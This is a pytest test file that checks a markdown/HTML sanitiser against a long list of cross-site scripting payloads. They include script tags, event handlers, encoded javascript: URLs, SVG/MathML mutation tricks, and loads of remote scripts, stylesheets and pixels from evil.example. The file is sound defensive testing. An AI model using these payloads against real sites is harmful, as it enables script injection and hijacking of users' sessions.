import pytest

from content.markup import MarkupContext, render_block, render_inline, sanitising
from content.markup.sanitising import INLINE_TAGS, TAGS, keep_inline, sanitise
from tests.markup import safety
from tests.markup.safety import find_unsafe

NOTHING = MarkupContext(sources={}, addresses={})

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" />',
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https://a.example" onclick="alert(1)" style="color:red" target="_blank">x</a>',
    '<a href="https://a.example" class="skip-link" id="top">x</a>',
    '<a href=https://a.example/"onmouseover="alert(1)>x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](data:text/html,hello)",
    "[x](vbscript:x)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example'onmouseover='alert(1))",
    '[x](https://a.example"onmouseover="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x][1]\n\n[1]: https://a.example "title"',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<https://a.example/?q=<script>alert(1)</script>>",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onmouseover="alert(1)',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video><source onerror="alert(1)"></video>',
    '<body onload="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    '<title><img src=x onerror="alert(1)"></title>',
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '<a href="https://a.example"><a href="javascript:alert(1)">x</a></a>',
    "<b><i><u><font color=red>x</font></u></i></b>",
    "<h1>x</h1><h2 id=main>y</h2>",
    '<sup class="citations evil">1</sup>',
    '<ol start="javascript:1"><li>x</li></ol>',
    '<abbr title="&quot;onmouseover=alert(1)">x</abbr>',
    "[@<script>alert(1)</script>]",
    "[x](topic:liver#<script>)",
    "[x](topic:javascript:alert(1))",
    '[x](topic:liver"onclick="alert(1))',
    "<<script>alert(1)//<</script>",
    "<p",
    "<p title='",
    "<a href='https://a.example",
    "\x02klzzwxh:0000\x03",
    "\x02amp\x03lt;script\x02amp\x03gt;",
    "<div markdown='1'>\n\n<script>alert(1)</script>\n\n</div>",
    "<ſcript>alert(1)</ſcript>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["{}", "Words {} words", "# {}", "*{}*", "[{}](https://a.example)"]
)
def test_block_holds_only_what_is_allowed(payload, frame):
    html = render_block(frame.format(payload), NOTHING)

    assert find_unsafe(html) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_inline_text_holds_only_what_may_stand_in_a_line(payload):
    html = render_inline(f"Words {payload} words", NOTHING)

    assert find_unsafe(html, tags=set(INLINE_TAGS)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_either_gate_alone_would_stop_what_runs(payload):
    by_bleach = sanitising._cleaner().clean(payload)
    by_nh3 = sanitising._last_gate(payload, TAGS)

    assert [fault for fault in find_unsafe(by_bleach) if "[class=" not in fault] == []
    assert find_unsafe(by_nh3) == []


@pytest.mark.parametrize(
    ("unsafe", "found"),
    [
        ("<script>x</script>", ["<script>"]),
        ('<p onclick="x">y</p>', ["p[onclick]"]),
        ('<a href="java\tscript:x">y</a>', ["a[href=java\tscript:x]"]),
        ('<a class="button">y</a>', ["a[class=button]"]),
        ("<!-- x -->", ["a comment"]),
    ],
)
def test_the_independent_parser_does_find_what_is_unsafe(unsafe, found):
    assert find_unsafe(unsafe) == found


def test_the_two_lists_of_what_is_allowed_agree():
    assert safety.TAGS == TAGS


def test_allowed_html_passes_unchanged():
    html = (
        '<h3>A</h3><p>B <a href="https://a.example/">c</a> <em>d</em> <strong>e</strong>'
        '<sup class="citations"><a class="citation" href="#source-x" aria-label="Source 1: X">1</a>'
        "</sup><br></p><ul><li>f</li></ul>"
    )

    cleaned = sanitise(html)

    assert find_unsafe(cleaned) == []
    for part in ("<h3>A</h3>", 'href="#source-x"', 'class="citations"', "<em>d</em>", "<br>"):
        assert part in cleaned


def test_bare_address_becomes_a_link_but_not_inside_code():
    assert sanitise("<p>See https://example.org/x.</p>") == (
        '<p>See <a href="https://example.org/x">https://example.org/x</a>.</p>'
    )
    assert sanitise("<code>https://example.org/x</code>") == "<code>https://example.org/x</code>"


def test_inline_html_loses_its_blocks_and_keeps_their_words():
    assert keep_inline("<p>One <em>two</em></p><ul><li>three</li></ul>") == "One <em>two</em>three"
